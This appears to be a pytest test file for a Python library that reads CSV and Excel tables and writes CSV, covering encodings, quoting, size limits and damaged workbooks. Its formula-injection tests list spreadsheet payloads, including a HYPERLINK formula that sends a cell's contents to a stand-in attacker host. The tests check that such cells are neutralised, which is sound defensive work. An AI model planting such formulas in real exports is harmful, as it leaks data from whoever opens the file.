import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import example, given, settings, strategies as st

from motifs.errors import TableUnreadable
from motifs.tables import read_table, write_csv
from motifs.tables.sheets import guard, unguard
from tests.motifs.workbooks import moment, number, shared, truth, words, workbook

HEAD = "judul,gambar\r\n"


def rows_of(path: Path, data: bytes) -> list[tuple[int, dict[str, str]]]:
    """Lines and cells of the table with these bytes."""
    path.write_bytes(data)
    return [(row.line, dict(row.cells)) for row in read_table(path).rows]


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "register.csv"


def refusal(path: Path, data: bytes) -> str:
    path.write_bytes(data)
    with pytest.raises(TableUnreadable) as refused:
        read_table(path)
    assert refused.value.values["file"] == "register.csv"
    return str(refused.value)


# CSV.


@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_comma_semicolon_and_tab_separate_columns(mark: str, path: Path) -> None:
    text = 'judul,gambar,alias\nAnggrek,a.png,"satu, dua; tiga"\n'.replace(",", mark, 4)
    read = rows_of(path, text.encode())
    assert read == [(2, {"judul": "Anggrek", "gambar": "a.png", "alias": "satu, dua; tiga"})]


@pytest.mark.parametrize(
    ("start", "encoding"),
    [
        (b"", "utf-8"),
        (b"\xef\xbb\xbf", "utf-8"),
        (b"\xff\xfe", "utf-16-le"),
        (b"\xfe\xff", "utf-16-be"),
    ],
)
def test_utf_8_and_utf_16_are_read(start: bytes, encoding: str, path: Path) -> None:
    data = start + "judul;gambar\r\nÉlai “Mania” 蘭;a.png\r\n".encode(encoding)
    assert rows_of(path, data) == [(2, {"judul": "Élai “Mania” 蘭", "gambar": "a.png"})]


def test_bytes_of_cp1252_are_refused_with_their_place(path: Path) -> None:
    assert refusal(path, HEAD.encode() + "Élai,a.png".encode("cp1252")) == (
        "The table register.csv cannot be read: not utf-8 at byte 14. "
        "Save it as UTF-8 CSV or as .xlsx."
    )


def test_half_a_letter_of_utf_16_is_refused(path: Path) -> None:
    assert "not utf-16 at byte" in refusal(path, "judul,gambar".encode("utf-16")[:-1])


@pytest.mark.parametrize("end", ["\r\n", "\n", "\r"])
def test_a_row_is_found_on_the_line_where_it_begins(end: str, path: Path) -> None:
    lines = [
        "judul,gambar,uraian",
        'Anggrek,a.png,"satu',
        "",
        'tiga ""kutip"""',
        "Pakis,b.png,",
        "",
        ",,",
        "Nipah,c.png,akhir",
    ]
    read = rows_of(path, end.join(lines).encode())
    assert [(line, cells["judul"]) for line, cells in read] == [
        (2, "Anggrek"),
        (5, "Pakis"),
        (8, "Nipah"),
    ]
    assert read[0][1]["uraian"] == f'satu{end}{end}tiga "kutip"'


def test_empty_lines_before_the_heading_are_passed_over(path: Path) -> None:
    read = rows_of(path, b"\r\n;\r\njudul;gambar\r\nAnggrek;a.png\r\n")
    assert read == [(4, {"judul": "Anggrek", "gambar": "a.png"})]


def test_headings_are_read_in_any_case_and_with_blanks(path: Path) -> None:
    path.write_text(" Judul ,GAMBAR,Nomor Pencatatan\nAnggrek,a.png,911291\n", encoding="utf-8")
    table = read_table(path)
    assert list(table.columns) == ["judul", "gambar", "nomor_pencatatan"]
    assert table.rows[0].cells["nomor_pencatatan"] == "911291"


def test_a_short_row_lacks_its_last_cells(path: Path) -> None:
    assert rows_of(path, b"judul,gambar,alias\nAnggrek,a.png\n") == [
        (2, {"judul": "Anggrek", "gambar": "a.png"})
    ]


def test_a_text_beyond_the_headings_is_not_lost(path: Path) -> None:
    assert rows_of(path, b"judul,gambar,\nAnggrek,a.png,,,biru, \n") == [
        (2, {"judul": "Anggrek", "gambar": "a.png", "": "biru"})
    ]


def test_a_nul_is_a_letter_like_any_other(path: Path) -> None:
    assert rows_of(path, b"judul,gambar\nAng\x00grek,a.png\n") == [
        (2, {"judul": "Ang\x00grek", "gambar": "a.png"})
    ]


def test_a_heading_alone_is_a_table_without_rows(path: Path) -> None:
    path.write_bytes(b"judul,gambar\n")
    assert (list(read_table(path).columns), list(read_table(path).rows)) == (
        ["judul", "gambar"],
        [],
    )


def test_an_empty_file_is_a_table_without_columns(path: Path) -> None:
    path.write_bytes(b"")
    assert (list(read_table(path).columns), list(read_table(path).rows)) == ([], [])


@pytest.mark.parametrize("row", ['Pakis,"b.png', 'Pakis,"b".png'])
def test_a_wrong_quote_is_refused_with_the_line_where_its_row_begins(row: str, path: Path) -> None:
    text = f'{HEAD}"Ang\r\ngrek",a.png\r\n{row}\r\n'
    assert "register.csv cannot be read: 4: " in refusal(path, text.encode())


def test_a_cell_has_at_most_131072_letters(path: Path) -> None:
    longest = b"judul,gambar\n" + b"x" * 131_072
    assert len(rows_of(path, longest)[0][1]["judul"]) == 131_072
    assert "field larger than field limit" in refusal(path, longest + b"x")


def test_a_table_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(TableUnreadable, match="csv cannot be read: No such file"):
        read_table(tmp_path / "x.csv")


def test_a_folder_is_no_table(tmp_path: Path) -> None:
    with pytest.raises(TableUnreadable, match="Is a directory"):
        read_table(tmp_path)


# .xlsx; Excel counts days from 1 January 1900, and 44562 is 1 January 2022.


def test_texts_numbers_and_days_of_a_sheet_are_read_as_they_would_be_typed(path: Path) -> None:
    head = [shared(1), shared(0), *map(words, ("alias", "nilai", "edisi", "tanggal", "jam", "ya"))]
    cells = [
        words("<Anggrek> & 蘭"),
        words("a.png"),
        number("911291"),
        number("12.5"),
        number("1E3"),
        number("44613", style=1),
        number("44613.5", style=2),
        truth(value=True),
    ]
    read = rows_of(path, workbook({1: head, 2: cells}, strings=("gambar", " Judul ")))
    assert read == [
        (
            2,
            {
                "judul": "<Anggrek> & 蘭",
                "gambar": "a.png",
                "alias": "911291",
                "nilai": "12.5",
                "edisi": "1000",
                "tanggal": "2022-02-21",
                "jam": "2022-02-21T12:00:00",
                "ya": "True",
            },
        )
    ]


@pytest.mark.parametrize("cell", [number("44562", style=2), moment("2022-01-01T00:00:00")])
def test_a_moment_at_midnight_is_a_day(cell: str, path: Path) -> None:
    rows = {1: [words("judul")], 2: [cell]}
    assert rows_of(path, workbook(rows)) == [(2, {"judul": "2022-01-01"})]


def test_empty_rows_of_a_sheet_are_counted(path: Path) -> None:
    head, row = [words("judul"), words("gambar")], [words("Anggrek"), words("a.png")]
    read = rows_of(path, workbook({3: head, 4: [words(" ")], 7: row}))
    assert read == [(7, {"judul": "Anggrek", "gambar": "a.png"})]


def test_the_content_decides_whatever_the_name_says(tmp_path: Path) -> None:
    rows = {1: [words("judul")], 2: [words("Anggrek")]}
    assert rows_of(tmp_path / "sheet.csv", workbook(rows)) == [(2, {"judul": "Anggrek"})]
    assert rows_of(tmp_path / "text.xlsx", b"judul\nAnggrek\n") == [(2, {"judul": "Anggrek"})]


@pytest.mark.parametrize("kept", [4, 30, 400, -30])
def test_a_sheet_that_was_cut_off_is_refused(kept: int, path: Path) -> None:
    whole = workbook({1: [words("judul")], 2: [words("Anggrek")]})
    assert "register.csv cannot be read: " in refusal(path, whole[:kept])


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_a_sheet_with_a_damaged_part_is_refused(part: str, path: Path) -> None:
    whole, out = workbook({1: [words("judul")]}), io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as source, zipfile.ZipFile(out, "w") as damaged:
        for name in source.namelist():
            damaged.writestr(name, source.read(name)[:90] if name == part else source.read(name))
    assert "register.csv cannot be read: " in refusal(path, out.getvalue())


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_any_damage_to_a_sheet_is_refused_or_read_but_never_a_fault(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    damaged = bytearray(workbook({1: [words("judul")], 2: [number("44613", style=1)]}))
    places = st.integers(min_value=4, max_value=len(damaged) - 1)
    for place in data.draw(st.lists(places, min_size=1, max_size=4)):
        damaged[place] = data.draw(st.integers(min_value=0, max_value=255))
    path = tmp_path_factory.getbasetemp() / "damaged.xlsx"
    path.write_bytes(damaged)
    try:
        assert len(read_table(path).columns) <= 1
    except TableUnreadable as refused:
        assert refused.values["file"] == "damaged.xlsx"  # noqa: PT017 - either answer is right


def test_a_table_of_50_megabytes_is_read_and_one_byte_more_is_refused(path: Path) -> None:
    small = workbook({1: [words("judul")], 2: [words("Anggrek")]})
    out = io.BytesIO(small)
    with zipfile.ZipFile(out, "a") as book:
        book.writestr("padding", b"")
    room = 50_000_000 - len(out.getvalue())
    out = io.BytesIO(small)
    with zipfile.ZipFile(out, "a") as book:
        book.writestr("padding", bytes(room))
    assert len(out.getvalue()) == 50_000_000
    assert rows_of(path, out.getvalue()) == [(2, {"judul": "Anggrek"})]
    assert "> 50 MB" in refusal(path, out.getvalue() + b"\0")


# Writing.


def test_a_csv_has_a_heading_and_rows_that_end_as_rfc_4180_says() -> None:
    rows = [{"judul": 'A, "b"', "gambar": "a.png"}, {"gambar": "satu\ndua"}]
    assert write_csv(["judul", "gambar"], rows) == (
        'judul,gambar\r\n"A, ""b""",a.png\r\n,"satu\ndua"\r\n'
    )


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
        "+62812",
        "-1+1",
        "@SUM(1;1)",
        "\t=1",
        "\ttab",
        "\rreturn",
        "\nline",
        " =1",
        "'=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_calculate_is_written_as_text(formula: str) -> None:
    text = write_csv(["judul"], [{"judul": formula}])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["judul"], [f"'{formula}"]]


@pytest.mark.parametrize("text", ["Anggrek", "'Anggrek'", "1+1", "a=b", "000911291", "", "'"])
def test_a_cell_that_nobody_calculates_is_written_as_it_is(text: str) -> None:
    assert guard(text) == text


TRICKY = st.text(alphabet="'=+-@＝\t\r\n a")


@settings(max_examples=60, deadline=None)
@given(st.text() | TRICKY)
@example("''=1")
@example("'=1")
@example("' =1")
def test_unguarding_gives_back_what_was_guarded(text: str) -> None:
    assert unguard(guard(text)) == text


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text() | TRICKY, min_size=2, max_size=2))
@example(["=1", "'=1"])
@example(["''=1", "'''=1"])
def test_two_cells_stay_two_when_guarded(texts: list[str]) -> None:
    assert (guard(texts[0]) == guard(texts[1])) == (texts[0] == texts[1])


CLEAN = (st.text(st.characters(exclude_categories=("Cs",))) | TRICKY).map(str.strip)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.fixed_dictionaries({"judul": CLEAN, "gambar": CLEAN, "alias": CLEAN})))
def test_clean_texts_that_are_written_are_read_again(
    tmp_path_factory: pytest.TempPathFactory, rows: list[dict[str, str]]
) -> None:
    path = tmp_path_factory.getbasetemp() / "written.csv"
    written = write_csv(["judul", "gambar", "alias"], rows)
    path.write_text(written, encoding="utf-8-sig", newline="")
    filled = ({name: cell for name, cell in row.items() if cell} for row in rows)
    assert [row.cells for row in read_table(path).rows] == [cells for cells in filled if cells]


def spanning(corner: str) -> bytes:
    """A sheet whose second row has one far cell."""
    whole = workbook({1: [words("judul")], 2: [words("Anggrek")]})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b'r="A2"', b'r="%s"' % corner.encode()))
    return out.getvalue()


@pytest.mark.parametrize("corner", ["XFD1048576", "A5000001", "E1000001"])
def test_a_sheet_that_spans_more_than_five_million_cells_is_refused(
    corner: str, tmp_path: Path
) -> None:
    path = tmp_path / "wide.xlsx"
    path.write_bytes(spanning(corner))
    with pytest.raises(TableUnreadable, match="5,000,000"):
        read_table(path)


def test_a_cell_in_the_last_column_of_excel_is_read(tmp_path: Path) -> None:
    path = tmp_path / "wide.xlsx"  # XFD is column 16,384: 305 rows of it are 4,997,120 cells
    path.write_bytes(spanning("XFD305"))
    assert list(read_table(path).columns) == ["judul"]
    path.write_bytes(spanning("XFD306"))
    with pytest.raises(TableUnreadable):
        read_table(path)
